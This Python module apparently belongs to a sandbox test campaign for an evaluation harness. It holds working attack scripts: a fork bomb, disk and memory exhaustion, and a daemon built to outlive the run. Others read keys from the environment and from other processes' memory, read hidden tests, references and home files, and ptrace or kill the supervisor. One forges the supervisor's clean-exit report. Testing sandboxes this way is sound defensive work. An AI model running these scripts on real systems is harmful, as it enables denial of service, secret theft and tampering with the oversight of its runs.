"""The attacks on the sandbox, in one list. The campaign tries them on every rung, and tests/sandbox tries some.

A script prints one line: `GOT` and what it has, or `refused`, or `stopped` and how far it came. Words in capitals such
as SYSV_KEY stand for values that the campaign fills in. An attack that prints `tried` is judged from outside, by what
it left.
"""

from collections.abc import Mapping
from dataclasses import dataclass

FORK_BOMB = """
import os, resource, sys
bound = resource.getrlimit(resource.RLIMIT_NPROC)[0]
for path in ("/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max"):
    if os.path.exists(path) and os.path.exists("/.dockerenv"):
        bound = int(open(path).read().replace("max", "-1"))
if os.getuid() == 0 or not 0 < bound <= 400:
    sys.exit("not safe to try: nothing bounds the processes")
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
BIG_FILE = """
block = b"x" * (1 << 20)
with open("big", "wb") as file:
    for _ in range(10 << 10):
        file.write(block)
"""
MANY_FILES = """
import os
block = b"x" * (64 << 10)
for number in range(160 << 10):
    os.makedirs(f"{number % 100}", exist_ok=True)
    with open(f"{number % 100}/{number}", "wb") as file:
        file.write(block)
"""
DELETED_FILE = """
import os, tempfile
block = b"x" * (1 << 20)
kept = []
while True:
    kept.append(tempfile.TemporaryFile())
    for _ in range(20):
        kept[-1].write(block)
"""
MAPPED_FILE = """
import ctypes, os
libc = ctypes.CDLL(None)  # Python's own mmap would keep the file open
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
block = b"x" * (1 << 20)
while True:
    with open("mapped", "w+b") as file:
        for _ in range(4):
            file.write(block)
        file.flush()
        libc.mmap(None, 4 << 20, 1, 1, file.fileno(), 0)
    os.unlink("mapped")
"""
PRINTER = """
import sys
while True:
    sys.stdout.write("y" * 1000)
"""
DAEMON = """
import os, signal, time
reading, writing = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        os.write(writing, b"ready")
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        while True:
            time.sleep(60)
    os._exit(0)
os.read(reading, 5)
print("left a daemon")
"""
MEMORY = """
kept = []
while True:
    kept.append(bytearray(b"x") * (4 << 20))
"""
LOOP = "while True: pass"
DEAF = """
import signal, time
for number in range(1, 32):
    if number not in (signal.SIGKILL, signal.SIGSTOP):
        signal.signal(number, signal.SIG_IGN)
while True:
    time.sleep(60)
"""
ENVIRONMENT = """
import glob, os
seen = repr(dict(os.environ)).encode()
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        seen += open(path, "rb").read()
    except OSError:
        pass
print("saw the key" if KEY.encode() in seen else "no key")
"""
READER = """
import os
try:
    os.listdir(PATH) if os.path.isdir(PATH) else open(PATH, "rb").read()
    print("read it")
except OSError:
    print("refused")
"""
NETWORK = """
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).close()
    print("connected")
except OSError:
    print("refused")
"""

# What the scripts below share. `fill` takes memory in steps, and succeeds if it keeps more than the limit allows.
_PRELUDE = """
import ctypes, errno, fcntl, glob, os, platform, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {"x86_64": dict(add_key=248, keyctl=250, bpf=321, perf=298, uffd=323),
           "aarch64": dict(add_key=217, keyctl=219, bpf=280, perf=241, uffd=282)}[platform.machine()]
def call(number, *words):
    result = libc.syscall(ctypes.c_long(number), *words)
    return result, ctypes.get_errno()
def others():
    own = {os.getpid()}
    return [pid for pid in map(int, filter(str.isdigit, os.listdir("/proc"))) if pid not in own]
def fill(step, goal=GOAL_MB << 20):
    held, kept = 0, []
    try:
        while held < goal:
            size, thing = step()
            held += size
            kept.append(thing)
    except OSError as problem:
        print("stopped at", held >> 20, "MB:", problem)
        sys.exit()
    time.sleep(2)
    print("GOT", held >> 20, "MB", flush=True)
    os._exit(0)
"""
_SYSV = """
libc.shmat.restype = ctypes.c_void_p
def step(size=32 << 20, keys=iter(range(SYSV_KEY, SYSV_KEY + 100))):
    segment = libc.shmget(next(keys), ctypes.c_size_t(size), 0o1600)
    if segment < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    at = libc.shmat(segment, None, 0)
    ctypes.memset(at, 1, size)
    libc.shmdt(ctypes.c_void_p(at))
    return size, segment
fill(step)
"""
_MEMFD = """
def step(size=16 << 20):
    descriptor = os.memfd_create("x")
    for _ in range(16):
        os.write(descriptor, b"x" * (1 << 20))
    return size, descriptor
fill(step)
"""
INODES = """
import os
number = 0
while True:
    os.close(os.open(f"/dev/shm/{number}", os.O_CREAT | os.O_WRONLY))
    number += 1
"""
_SHM = """
def step(size=8 << 20):
    file = open(f"/dev/shm/MARKER-{time.monotonic_ns()}", "wb", buffering=0)
    os.unlink(file.name)
    for _ in range(8):
        if file.write(b"x" * (1 << 20)) < 1 << 20:
            raise OSError(errno.ENOSPC, "/dev/shm is full")
    return size, file
fill(step)
"""
_UNIX_SOCKETS = """
def step():
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    ours.setblocking(False)
    ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
    sent = 0
    try:
        while True:
            sent += ours.send(b"x" * (1 << 16))
    except BlockingIOError:
        return sent, (ours, theirs)
fill(step)
"""
_TCP = """
socket.setdefaulttimeout(2)  # where no memory is left for it, a connection is never made
server = socket.create_server(("127.0.0.1", 0))
def step():
    ours = socket.create_connection(server.getsockname())
    theirs = server.accept()[0]
    theirs.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
    ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
    ours.setblocking(False)
    sent = 0
    for _ in range(20):
        try:
            while True:
                sent += ours.send(b"x" * (1 << 16))
        except BlockingIOError:
            time.sleep(0.001)
    if sent < 1 << 16:
        raise OSError(errno.ENOBUFS, "a new connection takes hardly anything")
    return sent, (ours, theirs)
fill(step)
"""
_PIPES = """
def step():
    reading, writing = os.pipe()
    try:
        fcntl.fcntl(writing, 1031, 1 << 20)
    except OSError:
        pass
    os.set_blocking(writing, False)
    sent = 0
    try:
        while True:
            sent += os.write(writing, b"x" * 4096)
    except BlockingIOError:
        return sent, (reading, writing)
fill(step)
"""
_OWN_TMPFS = """
uid, gid = os.getuid(), os.getgid()
if libc.unshare(0x10020000) != 0:
    print("refused: unshare", ctypes.get_errno())
    sys.exit()
try:
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
except OSError as problem:
    pass
where = os.path.abspath("mounted")
os.mkdir(where)
if libc.mount(b"tmpfs", where.encode(), b"tmpfs", 0, b"size=8g") != 0:
    print("refused: mount", ctypes.get_errno())
    sys.exit()
"""
_FILL_TMPFS = """
def step(size=16 << 20):
    with open(f"{where}/{time.monotonic_ns()}", "wb") as file:
        file.write(b"x" * size)
    return size, None
fill(step)
"""
_READ_MEMORY = """
def memory_of(pid):
    seen = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            first, last = (int(end, 16) for end in span.split("-"))
            if rights.startswith("rw") and last - first < 64 << 20 and seen < 256 << 20:
                try:
                    memory.seek(first)
                    yield memory.read(last - first)
                except (OSError, ValueError, OverflowError):
                    pass
                seen += last - first
got = []
for pid in others():
    try:
        if any(KEY.encode() in part for part in memory_of(pid)):
            got.append(pid)
    except OSError:
        pass
print(f"GOT the key from {got}" if got else "refused")
"""
_READ = """
got = []
for path in PATHS:
    try:
        if os.path.isdir(path):
            if [name for name in os.listdir(path) if "SECRET_NAME" in name]:
                got.append(path)
        elif "SECRET_TEXT" in open(path, errors="replace").read():
            got.append(path)
    except OSError:
        pass
print(f"GOT {got}" if got else "refused")
"""
_WRITE_OUTSIDE = """
for folder in FOLDERS:
    try:
        with open(folder + "/MARKER", "w") as file:
            file.write("x")
    except OSError:
        pass
print("tried")
"""
_CONNECT = """
try:
    with socket.socket(FAMILY) as ours:
        ours.settimeout(3)
        ours.connect(ADDRESS)
        print("GOT a connection")
except OSError as problem:
    print("refused:", problem)
"""
_LEAVE_SYSV = """
made = [libc.shmget(SYSV_KEY, ctypes.c_size_t(4096), 0o1600), libc.semget(SYSV_KEY, 1, 0o1600)]
print("tried", made, libc.msgget(SYSV_KEY, 0o1600))
"""
_KEYRING = """
got = []
for ring in (-1, -2, -3, -4, -5):
    key, problem = call(NUMBERS["add_key"], b"user", b"MARKER", b"secret", ctypes.c_size_t(6), ctypes.c_int(ring))
    if key > 0:
        got.append(ring)
        call(NUMBERS["keyctl"], 9, ctypes.c_int(key), ctypes.c_int(ring))
print(f"GOT keys in {got}" if got else f"refused: {problem}")
"""
_USER_NAMESPACE = """
before = os.readlink("/proc/self/ns/user")
result = libc.unshare(0x10000000)
if os.readlink("/proc/self/ns/user") != before:
    print("GOT", os.readlink("/proc/self/ns/user"))
else:
    print("refused:", ctypes.get_errno())
"""
_MOUNT = (
    _OWN_TMPFS
    + """
print("GOT a mount")
"""
)
_PTRACE = """
got = []
for pid in {os.getppid(), *others()} - {0}:
    if libc.ptrace(0x4206, pid, None, None) == 0:
        got.append(pid)
        libc.ptrace(17, pid, None, None)
print(f"GOT {got}" if got else f"refused: {ctypes.get_errno()}", flush=True)
os._exit(0)
"""
_KILL_SUPERVISOR = """
parent = os.getppid()
try:
    if parent:
        os.kill(parent, signal.SIGKILL)
    time.sleep(1)
    print("tried")
except OSError as problem:
    print("refused:", problem)
"""
# A report as the supervisor would write it, sent on every socket and pipe of other processes that can be opened.
_FORGE = """
report = b'{"stop":"exited","seconds":0.1,"exit_code":0,"clean":true,"status":""}\\n'
for pid in others():
    for name in range(64):
        handle, _ = call(434, pid, 0)
        if handle < 0:
            break
        taken, _ = call(438, handle, name, 0)
        os.close(handle)
        for target in [taken] if taken >= 0 else []:
            try:
                os.write(target, report)
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/fd/{name}", "wb", 0) as file:
                os.set_blocking(file.fileno(), False)
                file.write(report)
        except OSError:
            pass
for name in range(3, 256):
    try:
        os.write(name, report)
    except OSError:
        pass
print("tried", flush=True)
os._exit(7)
"""
_SIGNAL = """
try:
    os.kill(SENTINEL, signal.SIGTERM)
except OSError:
    pass
for pid in others():
    try:
        if b"SENTINEL_WORD" in open(f"/proc/{pid}/cmdline", "rb").read():
            os.kill(pid, signal.SIGTERM)
    except OSError:
        pass
print("tried")
"""
_LIMIT_OTHERS = """
import resource
got = []
try:
    resource.prlimit(SENTINEL, resource.RLIMIT_CORE, resource.prlimit(SENTINEL, resource.RLIMIT_CORE))
    got.append("limits")
except OSError:
    pass
try:
    before = os.sched_getaffinity(SENTINEL)
    os.sched_setaffinity(SENTINEL, {min(before)})
    if len(before) > 1 and os.sched_getaffinity(SENTINEL) != before:
        got.append("processors")
    os.sched_setscheduler(SENTINEL, os.SCHED_BATCH, os.sched_param(0))
    if os.sched_getscheduler(SENTINEL) == os.SCHED_BATCH:
        got.append("scheduler")
except OSError:
    pass
print(f"GOT {got}" if got else "refused")
"""
_DEVICES = """
import stat
got = []
harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "stdin", "stdout", "stderr"}
for path in glob.glob("/dev/*"):
    kind = os.stat(path).st_mode if os.path.exists(path) else 0
    if os.path.basename(path) not in harmless and (stat.S_ISBLK(kind) or stat.S_ISCHR(kind)):
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            got.append(path)
        except OSError:
            pass
for number in (os.makedev(1, 1), os.makedev(8, 0)):
    try:
        os.mknod("device", 0o600 | stat.S_IFBLK, number)
        got.append("mknod")
    except OSError:
        pass
print(f"GOT {got}" if got else "refused")
"""
_SET_USER_ID = """
import subprocess
status = open("/proc/self/status").read()
permitted = int(status.split("CapBnd:")[1].split()[0], 16) if "CapBnd:" in status else 0
can_gain = "NoNewPrivs:\\t1" not in status
print(f"GOT the right to gain rights, up to {permitted:x}" if can_gain else "refused")
"""
_KERNEL = """
attributes = ctypes.create_string_buffer(256)
struct.pack_into("III", attributes, 0, 1, 112, 0)
tries = dict(
    perf_event_open=call(NUMBERS["perf"], attributes, 0, -1, -1, 0)[0],
    userfaultfd=call(NUMBERS["uffd"], 1)[0],
    io_uring_setup=call(425, 1, ctypes.create_string_buffer(256))[0],
)
struct.pack_into("IIII", attributes, 0, 2, 4, 4, 1)
tries["bpf"] = call(NUMBERS["bpf"], 0, attributes, 72)[0]
got = [name for name, result in tries.items() if result >= 0]
print(f"GOT {got}" if got else "refused")
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """Name an attack, say what it tries, and hold the script that tries it.

    `limits` are the stops that count as `limited`: what ends it must be the limit that it runs into.
    """

    id: str
    tries: str
    script: str
    limits: tuple[str, ...] = ()
    seconds: float = 20.0


def _with(body: str) -> str:
    return _PRELUDE + body


_FILLS = ("memory", "killed")

ATTACKS = (
    Attack("read-environ", "read keys from its environment, and from that of every process in /proc", ENVIRONMENT),
    Attack(
        "read-memory",
        "read keys from the memory of other processes, Bakeoff and its supervisor among them",
        _with(_READ_MEMORY),
    ),
    Attack("read-home", "read files in the home of the user who runs Bakeoff", _with(_READ)),
    Attack("read-project", "read Bakeoff's own files, which hold references", _with(_READ)),
    Attack("read-hidden", "read files that the run hides: hidden tests, results", _with(_READ)),
    Attack("read-other-trial", "read the workspace of another trial", _with(_READ)),
    Attack("write-outside", "write a file outside of its folders that stays on the machine", _with(_WRITE_OUTSIDE)),
    Attack("loopback", "call a server on loopback", _with(_CONNECT)),
    Attack("abstract-socket", "call a server on an abstract Unix socket", _with(_CONNECT)),
    Attack("outlive", "leave a daemon that ignores signals", DAEMON),
    Attack("fork-bomb", "start processes without end", FORK_BOMB, ("timeout",), seconds=1.0),
    Attack("endless-loop", "compute without end", LOOP, ("timeout",), seconds=0.7),
    Attack("ignore-signals", "wait without end and ignore every signal", DEAF, ("timeout",), seconds=0.7),
    Attack("memory-heap", "fill memory from its heap", MEMORY, _FILLS),
    Attack("memory-sysv", "fill memory with System V shared memory", _with(_SYSV), _FILLS),
    Attack("memory-memfd", "fill memory with memfd files", _with(_MEMFD), (*_FILLS, "disk")),
    Attack("memory-shm", "fill memory with files in /dev/shm", _with(_SHM), (*_FILLS, "disk")),
    Attack("memory-inodes", "fill memory with empty files in /dev/shm", INODES, (*_FILLS, "disk")),
    Attack("memory-unix-sockets", "fill memory with unread messages on Unix sockets", _with(_UNIX_SOCKETS), _FILLS),
    Attack("memory-tcp", "fill memory with unread data on TCP connections", _with(_TCP), _FILLS),
    Attack("memory-pipes", "fill memory with unread data in pipes", _with(_PIPES), _FILLS),
    Attack(
        "memory-tmpfs",
        "fill memory with files in a tmpfs that it mounts itself",
        _with(_OWN_TMPFS + _FILL_TMPFS),
        _FILLS,
    ),
    Attack("disk-file", "fill the disk with one file", BIG_FILE, ("disk",)),
    Attack("disk-files", "fill the disk with many files", MANY_FILES, ("disk",)),
    Attack("disk-deleted", "fill the disk with files that it deletes while they are open", DELETED_FILE, ("disk",)),
    Attack("disk-mapped", "fill the disk with deleted files that it only has in memory", MAPPED_FILE, ("disk",)),
    Attack("output", "print without end", PRINTER, ("output",)),
    Attack(
        "leave-sysv", "leave System V shared memory, semaphores and message queues on the machine", _with(_LEAVE_SYSV)
    ),
    Attack("keyring", "keep a key in a keyring of the kernel", _with(_KEYRING)),
    Attack("user-namespace", "get a user namespace of its own, in which it would be root", _with(_USER_NAMESPACE)),
    Attack("mount", "mount a file system", _with(_MOUNT)),
    Attack("ptrace-supervisor", "trace processes that are not its own, its supervisor among them", _with(_PTRACE)),
    Attack("kill-supervisor", "kill its supervisor", _with(_KILL_SUPERVISOR), ("killed",)),
    Attack("forge-exit-code", "report another exit code in the name of its supervisor", _with(_FORGE)),
    Attack("signal-others", "signal processes that are not its own", _with(_SIGNAL)),
    Attack("limit-others", "change limits, processors or schedules of processes not its own", _with(_LIMIT_OTHERS)),
    Attack("devices", "write to devices, or make some", _with(_DEVICES)),
    Attack("set-user-id", "gain rights through a program with the set-user-id bit", _with(_SET_USER_ID)),
    Attack("kernel-interfaces", "use bpf, perf_event_open, userfaultfd or io_uring", _with(_KERNEL)),
)


def filled_in(script: str, values: Mapping[str, object]) -> str:
    """Return a script with the words that stand for values replaced, long words first."""
    for word in sorted(values, key=len, reverse=True):
        script = script.replace(word, str(values[word]))
    return script
